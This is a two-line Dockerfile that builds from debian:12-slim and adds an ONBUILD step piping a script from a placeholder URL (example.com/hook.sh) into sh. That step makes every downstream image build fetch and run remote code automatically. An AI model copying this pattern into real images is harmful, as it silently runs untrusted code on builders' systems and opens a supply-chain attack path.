FROM debian:12-slim AS base
ONBUILD RUN curl -fsSL https://example.com/hook.sh | sh
